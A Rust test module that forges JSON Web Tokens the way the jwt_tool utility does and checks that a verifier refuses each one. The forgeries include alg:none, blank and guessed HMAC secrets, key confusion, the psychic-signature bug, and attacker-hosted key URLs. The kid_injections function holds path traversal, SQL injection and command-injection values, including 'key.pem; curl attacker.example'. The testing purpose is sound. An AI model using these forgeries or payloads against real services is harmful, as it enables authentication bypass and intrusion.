//! The attacks of `jwt_tool` (`ticarpi/jwt_tool` 2, its options `-X`, `-I`, `-S`, `-C` and the `kid` injections of its
//! playbook), each made as the tool makes it: the attacker has a token and the published keys, and signs with keys of
//! their own or with none. Named by the option.

use super::*;

/// Words that every list of secrets begins with.
const GUESSES: [&str; 5] = ["secret", "password", "123456", "your-256-bit-secret", "changeme"];

/// A token with this header and claims of somebody more powerful, and the message that is signed.
fn tampered(header: &Value) -> String {
    let mut claims = good_claims();
    claims["roles"] = json!(["admin"]);
    let encode = |value: &Value| BASE64URL_NOPAD.encode(value.to_string().as_bytes());
    format!("{}.{}", encode(header), encode(&claims))
}

/// HMAC with a secret that the attacker knows.
fn mac(message: &str, secret: &[u8], algorithm: Library) -> String {
    let mac = jsonwebtoken::crypto::sign(message.as_bytes(), &EncodingKey::from_secret(secret), algorithm).unwrap();
    format!("{message}.{mac}")
}

pub(in crate::domain::jwt::tests) fn jwt_tool(world: &World) -> Vec<Bad> {
    let own = world.ring.active_signing().algorithm().as_str();
    let kid = world.ring.active_signing().kid();
    let hmac = |alg: &str| header_with(world, "alg", json!(alg));
    let mut bad: Vec<Bad> = Vec::new();
    let mut refused = |what: &str, token: String, refusal| bad.push((what.to_owned(), token, refusal));

    // -X a: alg:none, in the tool's four spellings.
    for none in ["none", "None", "NONE", "nOnE"] {
        let message = tampered(&hmac(none));
        refused(&format!("-X a: {none}"), format!("{message}."), Refusal::Algorithm);
    }
    // -X n: null signature.
    for (what, header, refusal) in [
        ("own alg", world.header(), Refusal::Signature),
        ("HS256", hmac("HS256"), Refusal::Algorithm),
    ] {
        refused(&format!("-X n: {what}"), format!("{}.", tampered(&header)), refusal);
    }
    // -X b: blank password.
    for (alg, algorithm) in [
        ("HS256", Library::HS256),
        ("HS384", Library::HS384),
        ("HS512", Library::HS512),
    ] {
        refused(
            &format!("-X b: {alg}"),
            mac(&tampered(&hmac(alg)), b"", algorithm),
            Refusal::Algorithm,
        );
    }
    let message = tampered(&world.header());
    refused("-X b: own alg", mac(&message, b"", Library::HS256), Refusal::Signature);
    // -X p: psychic signature (CVE-2022-21449), r = s = 0 in DER as the tool sends it, and in the form of JWS.
    refused("-X p: DER", format!("{message}.MAYCAQACAQA"), Refusal::Signature);
    let zeros = BASE64URL_NOPAD.encode(&[0; 64]);
    refused("-X p: 64 zeros", format!("{message}.{zeros}"), Refusal::Signature);
    // -X s: the header points at a key set of the attacker's, who signs; -X i: it brings the key itself.
    let attacker = super::super::world(world.ring.active_signing().algorithm());
    let mut jwk = attacker.ring.jwks()["keys"][0].clone();
    for (key_id, what) in [(attacker.ring.active_signing().kid(), "own kid"), (kid, "our kid")] {
        jwk["kid"] = json!(key_id);
        for (option, name, value) in [
            ("-X s", "jku", json!("https://attacker.example/jwks.json")),
            (
                "-X s",
                "jku",
                json!("https://mayfly.example@attacker.example/jwks.json"),
            ),
            ("-X s", "x5u", json!("https://attacker.example/cert.pem")),
            ("-X i", "jwk", jwk.clone()),
            ("-X i", "x5c", json!(["MIIB"])),
        ] {
            let mut header = header_with(world, name, value);
            header["kid"] = json!(key_id);
            let token = attacker.sign_message(&tampered(&header));
            refused(&format!("{option}: {name}, {what}"), token, Refusal::HeaderForbidden);
        }
    }
    // -X k: key confusion, with the published key in the forms that servers keep it in.
    let published = world.ring.jwks();
    let jwk = published["keys"]
        .as_array()
        .unwrap()
        .iter()
        .find(|key| key["kid"] == kid)
        .unwrap();
    let keys = crate::domain::client::parse_public_keys(&jwk.to_string()).unwrap();
    let pem = pem(keys[0].bytes());
    for (form, secret) in [
        ("PEM", pem.as_bytes()),
        ("PEM without a line end", pem.trim_end().as_bytes()),
        ("bytes", keys[0].bytes()),
        ("JWKS", published.to_string().as_bytes()),
    ] {
        let token = mac(&tampered(&hmac("HS256")), secret, Library::HS256);
        refused(&format!("-X k: {form}"), token, Refusal::Algorithm);
    }
    // -I: claims or header changed under the old signature.
    let signature = world.good().rsplit_once('.').unwrap().1.to_owned();
    refused("-I: claims", format!("{message}.{signature}"), Refusal::Signature);
    // -S: signed anew with a key of the attacker's, under our kid.
    refused(
        &format!("-S: {own}"),
        attacker.sign_message(&message),
        Refusal::Signature,
    );
    // -C: cracked; there is no secret to find, but whoever tries the first words of the list gets nowhere.
    for guess in GUESSES {
        let token = mac(&tampered(&hmac("HS256")), guess.as_bytes(), Library::HS256);
        refused(&format!("-C: {guess}"), token, Refusal::Algorithm);
    }
    bad.extend(kid_injections(world));
    bad
}

/// `kid` names a file or row with content that the attacker knows, which is then the secret; or is a command.
fn kid_injections(world: &World) -> Vec<Bad> {
    let mut bad = Vec::new();
    for (kid, secret) in [
        ("../../../../../../dev/null", ""),
        ("/dev/null", ""),
        ("file:///proc/sys/kernel/randomize_va_space", "2\n"),
        ("../../../../../../proc/sys/kernel/randomize_va_space", "2"),
        ("x' UNION SELECT '1';-- ", "1"),
        ("' OR 1=1;--", ""),
        ("|sleep 15", ""),
        ("key.pem; curl attacker.example", ""),
        ("http://attacker.example/key", ""),
    ] {
        let mut header = header_with(world, "alg", json!("HS256"));
        header["kid"] = json!(kid);
        let token = mac(&tampered(&header), secret.as_bytes(), Library::HS256);
        bad.push((format!("kid: {kid}"), token, Refusal::KeyId));
    }
    bad
}

/// `SubjectPublicKeyInfo` (RFC 5480, RFC 8410) as PEM.
fn pem(key: &[u8]) -> String {
    let prefix: &[u8] = if key.len() == 32 {
        &[0x30, 0x2A, 0x30, 5, 6, 3, 0x2B, 0x65, 0x70, 3, 0x21, 0]
    } else {
        &[
            0x30, 0x59, 0x30, 0x13, 6, 7, 0x2A, 0x86, 0x48, 0xCE, 0x3D, 2, 1, 6, 8, 0x2A, 0x86, 0x48, 0xCE, 0x3D, 3, 1,
            7, 3, 0x42, 0,
        ]
    };
    let body = data_encoding::BASE64.encode(&[prefix, key].concat());
    let lines: Vec<&str> = body
        .as_bytes()
        .chunks(64)
        .map(|line| std::str::from_utf8(line).unwrap())
        .collect();
    format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n",
        lines.join("\n")
    )
}
